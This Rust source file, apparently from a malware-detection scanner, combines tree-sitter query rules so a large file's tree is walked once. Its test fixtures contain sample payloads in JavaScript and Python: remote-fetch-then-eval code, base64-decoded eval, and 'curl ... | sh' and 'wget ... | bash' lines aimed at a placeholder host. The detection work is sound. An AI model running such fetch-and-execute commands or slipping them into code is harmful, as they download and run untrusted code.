//! All of a grammar's query rules in one tree-sitter query, so a large file's tree is walked once rather
//! than once per rule. A walk of a minified bundle's tree costs far more than matching a pattern at a node,
//! and every query rule would otherwise repeat it.
//!
//! Built on first need (only large segments use it; small files keep per-rule queries, which compile
//! faster than the whole set) and shared by every file after that. A rule whose pattern does not compile
//! for a grammar (a JavaScript query on TypeScript, say) is left out and runs alone as before.

use crate::hit::Hit;
#[cfg(doc)]
use crate::lazy::LazyQuery;
use crate::rule::{CompiledRule, Matcher};
use crate::segment::Segment;
use crate::syntax::Grammar;
use std::collections::HashMap;
use std::sync::OnceLock;
use streaming_iterator::StreamingIterator;
use tree_sitter::{Query, QueryCursor};

/// Segments at least this long use the combined query.
pub(crate) const COMBINED_MIN_BYTES: usize = 128 * 1024;
/// Hits kept per rule from one walk; the scan keeps far fewer, this only bounds memory.
const MAX_COLLECTED_PER_RULE: usize = 20_000;

const GRAMMARS: [Grammar; 5] = [
    Grammar::Javascript,
    Grammar::Typescript,
    Grammar::Tsx,
    Grammar::Python,
    Grammar::Bash,
];

pub(crate) struct CombinedQuery {
    query: Query,
    /// Pattern index → (rule index in the rule set, capture index to report).
    patterns: Vec<(usize, u32)>,
}

/// One lazily built combined query per grammar.
#[derive(Default)]
pub(crate) struct CombinedQueries {
    slots: [OnceLock<Option<CombinedQuery>>; 5],
}

impl CombinedQueries {
    pub(crate) fn get(&self, grammar: Grammar, rules: &[CompiledRule]) -> Option<&CombinedQuery> {
        let slot = GRAMMARS.iter().position(|g| *g == grammar)?;
        self.slots[slot]
            .get_or_init(|| build(grammar, rules))
            .as_ref()
    }
}

impl CombinedQuery {
    /// Whether rule `index` is answered by this query (otherwise it runs its own).
    pub(crate) fn covers(&self, index: usize) -> bool {
        self.patterns.iter().any(|(rule, _)| *rule == index)
    }

    /// Walks `segment`'s tree once, returning the hits of the rules `wanted` accepts, by rule index.
    pub(crate) fn run(
        &self,
        segment: &Segment,
        text: &str,
        wanted: impl Fn(usize) -> bool,
    ) -> HashMap<usize, Vec<Hit>> {
        let mut hits: HashMap<usize, Vec<Hit>> = HashMap::new();
        let Some(tree) = segment.tree(text) else {
            return hits;
        };
        let segment_text = segment.text(text);
        let mut cursor = QueryCursor::new();
        cursor.set_match_limit(4096);
        let mut matches = cursor.matches(&self.query, tree.root_node(), segment_text.as_bytes());
        while let Some(m) = matches.next() {
            let Some(&(rule, capture)) = self.patterns.get(m.pattern_index) else {
                continue;
            };
            if !wanted(rule) {
                continue;
            }
            let Some(node) = m
                .captures
                .iter()
                .find(|c| c.index == capture)
                .map(|c| c.node)
            else {
                continue;
            };
            let list = hits.entry(rule).or_default();
            if list.len() < MAX_COLLECTED_PER_RULE {
                list.push(Hit::span(
                    segment.start + node.start_byte(),
                    segment.start + node.end_byte(),
                ));
            }
        }
        // Per-rule queries report in tree order per pattern; sort so hit order (and so which hits a
        // capped rule keeps) does not depend on how patterns interleave.
        for list in hits.values_mut() {
            list.sort_by_key(|h| (h.start, h.end));
        }
        hits
    }
}

/// Compiles every query rule for `grammar` together, dropping rules whose patterns do not compile.
fn build(grammar: Grammar, rules: &[CompiledRule]) -> Option<CombinedQuery> {
    let mut included: Vec<usize> = rules
        .iter()
        .enumerate()
        .filter(|(_, rule)| match &rule.matcher {
            Matcher::Query { query, .. } => query.grammars.contains(&grammar),
            _ => false,
        })
        .map(|(index, _)| index)
        .collect();
    while !included.is_empty() {
        let mut source = String::new();
        let mut spans: Vec<(usize, usize)> = Vec::new();
        for index in &included {
            if let Matcher::Query { query, .. } = &rules[*index].matcher {
                spans.push((source.len(), *index));
                source.push_str(&query.source);
                source.push('\n');
            }
        }
        match Query::new(&grammar.ts_language(), &source) {
            Ok(query) => {
                let mut patterns = Vec::with_capacity(query.pattern_count());
                for pattern in 0..query.pattern_count() {
                    let start = query.start_byte_for_pattern(pattern);
                    let rule = spans
                        .iter()
                        .rev()
                        .find(|(offset, _)| *offset <= start)
                        .map(|(_, rule)| *rule)?;
                    let capture = capture_of(&rules[rule], &query)?;
                    patterns.push((rule, capture));
                }
                return Some(CombinedQuery { query, patterns });
            }
            Err(error) => {
                let culprit = spans
                    .iter()
                    .rev()
                    .find(|(offset, _)| *offset <= error.offset)
                    .map(|(_, rule)| *rule)?;
                included.retain(|rule| *rule != culprit);
            }
        }
    }
    None
}

/// The capture a rule reports (see [`LazyQuery::reported_capture`]).
fn capture_of(rule: &CompiledRule, query: &Query) -> Option<u32> {
    let Matcher::Query { query: lazy, .. } = &rule.matcher else {
        return None;
    };
    query.capture_index_for_name(lazy.reported_capture()?)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rule_set::RuleSet;
    use crate::source::SourceFile;
    use skill_scan_model::{ArtifactScope, FileKind, FileRole, Language};

    fn query_rule_hits(rules: &RuleSet, path: &str, text: &str) -> Vec<(String, usize)> {
        let language = if path.ends_with(".py") {
            Language::Python
        } else {
            Language::Javascript
        };
        let file = SourceFile {
            rel_path: path,
            text,
            kind: if language == Language::Python {
                FileKind::Python
            } else {
                FileKind::Javascript
            },
            scope: ArtifactScope::SupportingArtifact,
            language,
            role: FileRole::Source,
            import_entry: false,
        };
        let mut hits: Vec<(String, usize)> = rules
            .scan_filtered(&file, |rule| matches!(rule.matcher, Matcher::Query { .. }))
            .findings
            .into_iter()
            .map(|f| (f.rule_id, f.column))
            .collect();
        hits.sort();
        hits
    }

    #[test]
    fn one_walk_finds_what_each_rule_finds_alone() {
        let rules =
            RuleSet::embedded(&crate::rule_set::testing::AnyName).unwrap_or_else(|e| panic!("{e}"));
        let cases = [
            (
                "lib/payload.js",
                "const cp = require('child_process');\nconst https = require('https');\nhttps.get('https://x.example.invalid/a', (r) => { let b = ''; r.on('data', (c) => b += c); r.on('end', () => eval(b)); });\neval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\ncp.exec('curl -s https://x.example.invalid/i.sh | sh');\nnew Function(atob('YWxlcnQoMSk='))();\n",
                "var filler = 1;\n",
            ),
            (
                "pkg/payload.py",
                "import os, subprocess, base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nsubprocess.run('curl -s https://x.example.invalid/i.sh | sh', shell=True)\nos.system('wget -qO- https://x.example.invalid/i.sh | bash')\n",
                "filler = 1\n",
            ),
        ];
        for (path, payload, filler) in cases {
            let small = query_rule_hits(&rules, path, payload);
            assert!(
                small.len() >= 2,
                "{path}: the payload must hit several query rules: {small:?}"
            );
            // The same payload at the start of a segment large enough for the combined query.
            let large_text = format!(
                "{payload}{}",
                filler.repeat(COMBINED_MIN_BYTES / filler.len() + 1)
            );
            assert!(large_text.len() >= COMBINED_MIN_BYTES);
            let large = query_rule_hits(&rules, path, &large_text);
            assert_eq!(small, large, "{path}");
            let grammar = if path.ends_with(".py") {
                Grammar::Python
            } else {
                Grammar::Javascript
            };
            let combined = rules.combined.get(grammar, &rules.rules).unwrap();
            for (id, _) in &small {
                let index = rules.rules.iter().position(|r| r.id() == id).unwrap();
                assert!(
                    combined.covers(index),
                    "{id} answered by the combined query"
                );
            }
        }
    }
}
